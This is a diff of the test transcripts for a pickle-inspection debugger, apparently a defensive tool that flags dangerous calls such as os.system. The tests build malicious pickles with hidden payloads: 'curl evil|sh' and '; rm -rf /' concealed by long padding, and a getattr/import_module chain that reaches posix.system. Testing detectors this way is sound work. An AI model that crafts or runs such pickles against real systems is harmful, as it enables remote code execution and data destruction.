@@ -215,7 +215,7 @@ $ printf 'cos\nenviron\nK\005cos\nsystem\ns.' >one.pkl && brine debug --batch -e
 $ brine debug --batch -e 'goto end' -e 'p #42' -e 'p #49' -e 'uses #42' -e 'why 0x9e' -e 'display #49' -e 'why #0' examples/memo-getattr.pkl
 0x00c5 #55 STOP   the end: loading returns collections.OrderedDict()
 builtins.getattr(importlib.import_module(operator.concat('po', 'six')), 'system')
-  call, made by #42 REDUCE at 0x009e
+  call (that is posix.system), made by #42 REDUCE at 0x009e
 json.dumps
   global, made by #47 STACK_GLOBAL at 0x00af
 0x00a1 #44 POP
@@ -273,23 +273,69 @@ $ printf 'X\372\000\000\000%0250d22\207.' 0 | brine debug --batch -e 'goto end' 
 ; Padding hides nothing of what is called: blanks are counted, and of what is long both ends are seen.
 $ python3 -c "open('blanks.pkl','wb').write(b'cos\nsystem\nV' + b' ' * 3000 + b'curl evil|sh\n\x85R.')" && brine debug --batch -e danger -e 'danger' -e explain -e 'info calls' blanks.pkl
 0x0000 #0 GLOBAL   would IMPORT os.system   !! DANGEROUS: process: runs a shell command
-0x0bd2 #3 REDUCE   would CALL os.system('… 3000 blanks …curl evil|sh')   !! DANGEROUS: process: runs a shell command
-✖ Here Python would call os.system('… 3000 blanks …curl evil|sh')
-Python values[-2:] = [values[-2](*values[-1])]  # os.system('… 3000 blanks …curl evil|sh')
+0x0bd2 #3 REDUCE   would CALL os.system('…3000 blanks…curl evil|sh')   !! DANGEROUS: process: runs a shell command
+✖ Here Python would call os.system('…3000 blanks…curl evil|sh')
+Python values[-2:] = [values[-2](*values[-1])]  # os.system('…3000 blanks…curl evil|sh')
 dangerous (process): os.system runs a shell command  denied-call
-stack  … os.system │ ('… 3000 blanks …curl evil|sh',)  →  … os.system('… 3000 blanks …curl evil|sh')
+stack  … os.system │ ('…3000 blanks…curl evil|sh',)  →  … os.system('…3000 blanks…curl evil|sh')
 REDUCE  Takes a callable and its arguments off the stack and CALLS it; pushes the result.
 ✓✖ import os.system  ran at 0x0000
-▶✖ os.system('… 3000 blanks …curl evil|sh')  now at 0x0bd2
+▶✖ os.system('…3000 blanks…curl evil|sh')  now at 0x0bd2
 
 $ python3 -c "open('pad.pkl','wb').write(b'cos\nsystem\nV' + b'x' * 100000 + b'; rm -rf /\n\x85R.')" && brine debug --batch -e 'set print-limit 120' -e 'goto #3' -e explain -e 'info calls' -e 'print event.args' pad.pkl
-0x186b8 #3 REDUCE   would CALL os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx… 99918 more …xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')   !! DANGEROUS: process: runs a shell command
-✖ Here Python would call os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx… 99918 more …xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')
-Python values[-2:] = [values[-2](*values[-1])]  # os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx… 99918 more …xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')
+0x186b8 #3 REDUCE   would CALL os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99911…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')   !! DANGEROUS: process: runs a shell command
+✖ Here Python would call os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99911…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')
+Python values[-2:] = [values[-2](*values[-1])]  # os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99911…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')
 dangerous (process): os.system runs a shell command  denied-call
-stack  … os.system │ ('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx… 99811 more …xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /',)  →  … os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx… 99805 more …xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')
+stack  … os.system │ ('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99804…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /',)  →  … os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99798…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')
 REDUCE  Takes a callable and its arguments off the stack and CALLS it; pushes the result.
 ✓✖ import os.system  ran at 0x00000
-▶✖ os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx… 99918 more …xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')  now at 0x186b8
+▶✖ os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99911…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')  now at 0x186b8
 ('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…
   tuple, made by #2 TUPLE1 at 0x186b7
+
+; explain takes a position: with the values that are found there, wherever the cursor is.
+$ brine debug --batch -e 'explain #12' -e 'explain 0x13' -e 'explain end' -e 'explain reduce' -e 'explain #99' examples/seed-boom.pkl
+✖ Here Python would call posix.system('echo "boom"')
+Python values[-2:] = [values[-2](*values[-1])]  # posix.system('echo "boom"')
+dangerous (process): posix.system runs a shell command  denied-call
+stack  … posix.system │ ('echo "boom"',)  →  … posix.system('echo "boom"')
+REDUCE  Takes a callable and its arguments off the stack and CALLS it; pushes the result.
+┃ goes into posix.system('echo "boom"') at 0x2e
+stack  …  →  … 'system'
+SHORT_BINUNICODE  Pushes a str given as at most 255 bytes of UTF-8.
+Python values.append('system')
+stack  … posix.system('echo "boom"')  →  …
+STOP  Ends the run: the top of the stack is what loading returns.
+Python return values.pop()  # posix.system('echo "boom"')
+REDUCE   0x52 'R', protocol 0, argument: none
+  Stack: takes any any; leaves any.
+  Takes a callable and its arguments off the stack and CALLS it; pushes the result.
+brine: -e:5: there is no #99: the last is #14
+[2]
+
+$ brine debug --batch -e 'explain foo' examples/seed-boom.pkl
+brine: -e:1: "foo" is no opcode's name, such as REDUCE, nor a position: #12, 0x1f, 31, +3, -3, 50%, @NAME, start or end
+[2]
+
+; What indirection leads to is said of an event and of a value, too; the stack and the memo are shown whole.
+$ brine debug --batch -e 'goto 0xc3' -e 'print event' -e 'print event.callee' -e 'print stack[1]' -e 'print stack' -e 'print memo' -e 'p/x memo' examples/memo-getattr.pkl
+0x00c3 #53 REDUCE   would CALL builtins.getattr(importlib.import_module(operator.concat('po', 'six')), 'system')('echo "boom"') (that is posix.system)   !! DANGEROUS: process: runs a shell command
+reduce builtins.getattr(importlib.import_module(operator.concat('po', 'six')), 'system') ('echo "boom"',) (that is posix.system)
+builtins.getattr(importlib.import_module(operator.concat('po', 'six')), 'system')
+  call (that is posix.system), made by #42 REDUCE at 0x009e
+builtins.getattr(importlib.import_module(operator.concat('po', 'six')), 'system')
+  call (that is posix.system), made by #42 REDUCE at 0x009e
+the stack, 3 deep
++0 ✖ ('echo "boom"',)  tuple      from 0x00c2
++1 ✖ posix.system = builtins.getattr(importlib.import_module(operator.concat('po', 'six')), 'system')  call       from 0x00b3
++2   collections.OrderedDict()  call       from 0x001f
+the memo, 6 keys
++0   collections.OrderedDict()  call       from 0x0020
++3 ✖ 'system'  str        from 0x005e
++2 ✖ operator.concat('po', 'six')  call       from 0x0053
++1 ✖ importlib.import_module(operator.concat('po', 'six'))  call       from 0x0081
++4 ✖ posix.system = builtins.getattr(importlib.import_module(operator.concat('po', 'six')), 'system')  call       from 0x009f
++5   json.dumps  global     from 0x00b0
+brine: -e:7: print/x is for an int or a float, not for memo
+[2]
